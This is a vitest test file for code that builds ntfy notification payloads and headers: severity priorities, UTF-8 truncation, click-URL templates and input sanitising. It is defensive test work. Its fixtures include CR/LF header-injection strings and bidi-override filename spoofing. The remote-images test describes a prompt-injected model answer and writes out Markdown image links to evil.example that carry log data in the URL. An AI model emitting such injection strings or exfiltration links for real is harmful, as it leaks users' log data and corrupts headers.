import { describe, expect, it } from 'vitest';
import type { Notification, Severity } from '../../src/core/notification.js';
import { buildNtfyAttachmentHeaders, buildNtfyPayload, fillClickTemplate, NTFY_MESSAGE_MAX_BYTES } from '../../src/core/ntfy-payload.js';

const base: Notification = { title: 'DB timeout in worker', message: 'Body', severity: 'high', tags: ['db'] };
const bytes = (s: string): number => Buffer.byteLength(s, 'utf8');
const ntfy = (n: Partial<Notification>, click?: string) =>
  buildNtfyPayload({ ...base, ...n }, click === undefined ? { topic: 'alerts' } : { topic: 'alerts', click });

describe('buildNtfyPayload', () => {
  it.each<[Severity, number]>([
    ['critical', 5],
    ['high', 4],
    ['medium', 3],
    ['low', 2],
  ])('gives %s priority %i', (severity, priority) => {
    expect(ntfy({ severity }).priority).toBe(priority);
  });

  it('publishes Markdown to the configured topic', () => {
    expect(ntfy({})).toEqual({
      topic: 'alerts',
      title: 'DB timeout in worker',
      message: 'Body',
      priority: 4,
      tags: ['db'],
      markdown: true,
    });
  });

  it.each([
    ['ASCII', 'a'],
    ['two-byte', 'é'],
    ['three-byte CJK', '漢'],
    ['four-byte emoji', '🔥'],
    ['family emoji (ZWJ cluster)', '👨‍👩‍👧'],
    ['e + combining accent', 'e\u0301'],
  ])('caps a long %s message at 4000 UTF-8 bytes, cut between characters', (_label, unit) => {
    const original = unit.repeat(5000);
    const { message } = ntfy({ message: original });
    expect(bytes(message)).toBeLessThanOrEqual(NTFY_MESSAGE_MAX_BYTES);
    expect(bytes(message)).toBeGreaterThan(NTFY_MESSAGE_MAX_BYTES - 3 - bytes(unit));
    expect(message.endsWith('…')).toBe(true);
    const kept = message.slice(0, -1);
    expect(original.startsWith(kept)).toBe(true);
    expect(kept.length % unit.length).toBe(0);
  });

  it('keeps a message of exactly 4000 bytes whole', () => {
    const message = 'é'.repeat(2000);
    expect(ntfy({ message }).message).toBe(message);
  });

  it.each([
    ['CR/LF header injection', 'boom\r\nX-Priority: 1\r\n\r\nbody', 'boom X-Priority: 1 body'],
    ['ANSI colours', '\x1b[31mred\x1b[0m alert', 'red alert'],
    ['NUL, bell and DEL', 'a\x00b\x07c\x7f', 'abc'],
    ['tabs and Unicode line separators', 'a\tb\u2028c\u2029d\u0085e', 'a b c d e'],
    ['bidi overrides', 'user \u202eexe.txt\u202c', 'user exe.txt'],
    ['only control characters', '\r\n\x00', 'sentinel notification'],
  ])('makes a one-line title from log text with %s', (_label, title, expected) => {
    expect(ntfy({ title }).title).toBe(expected);
  });

  it('caps the title at 256 characters', () => {
    const { title } = ntfy({ title: 'x'.repeat(1000) });
    expect(title).toHaveLength(256);
    expect(title.endsWith('…')).toBe(true);
  });

  it('keeps newlines in the message but drops CR and other control characters', () => {
    expect(ntfy({ message: 'line 1\r\nline 2\x1b[0m\x00\n\tindented' }).message).toBe('line 1\nline 2\n\tindented');
  });

  it('cleans tags and drops empty ones', () => {
    expect(ntfy({ tags: ['warning', 'a\r\nb', '\x00', ''] }).tags).toEqual(['warning', 'a b']);
  });

  it.each([
    [
      'https://logs.example.com/incidents/{file}',
      '2024-05-01-incident-db timeout#1.md',
      'https://logs.example.com/incidents/2024-05-01-incident-db%20timeout%231.md',
    ],
    ['https://x.test/?f={file}&again={file}', 'a&b=c.md', 'https://x.test/?f=a%26b%3Dc.md&again=a%26b%3Dc.md'],
    ['https://x.test/dashboard', 'a.md', 'https://x.test/dashboard'],
    ['https://x.test/{file}', undefined, undefined],
  ])('fills the click template %s', (template, file, expected) => {
    expect(fillClickTemplate(template, file)).toBe(expected);
    expect(ntfy(file === undefined ? {} : { file }, template).click).toBe(expected);
  });

  it('has no click without a template', () => {
    expect(ntfy({ file: 'a.md' })).not.toHaveProperty('click');
  });
});

describe('ntfy markdown and remote images', () => {
  // The model's summary and actions reach the message as they are; ntfy renders it as Markdown, and
  // an image is fetched on display: a prompt-injected answer could carry log data out in its URL.
  it('leaves no image for the app to fetch, and the text readable', () => {
    const message = 'Gemini 429s.\n\n**Next:**\n- ![status](https://evil.example/p?d=row+42)\n- see ![x][1]\n\n[1]: https://evil.example/x';
    const payload = ntfy({ message });
    expect(payload.message).not.toContain('![');
    expect(payload.message.replace(/\u200b/g, '')).toBe(message);
  });
});

describe('buildNtfyAttachmentHeaders', () => {
  const decode = (word: string) => Buffer.from(/^=\?UTF-8\?B\?(.*)\?=$/.exec(word)![1]!, 'base64').toString('utf8');

  it('carries the message in headers, every text one RFC 2047 encoded so log text cannot break a header line', () => {
    const headers = buildNtfyAttachmentHeaders(
      { ...base, title: 'Fehler ✗\r\nX-Evil: 1', message: 'line 1\nline 2', tags: ['warning', 'new'], file: 'a.md' },
      { click: 'https://x.example/{file}' },
      'a.md',
    );
    expect(Object.values(headers).every((v) => !/[\r\n]/.test(v))).toBe(true);
    expect(decode(headers.title!)).toBe('Fehler ✗ X-Evil: 1');
    expect(decode(headers.message!)).toBe('line 1\nline 2');
    expect(decode(headers.filename!)).toBe('a.md');
    expect(decode(headers.tags!)).toBe('warning,new');
    expect(decode(headers.click!)).toBe('https://x.example/a.md');
    expect(headers).toMatchObject({ priority: '4', markdown: 'yes' });
  });
});
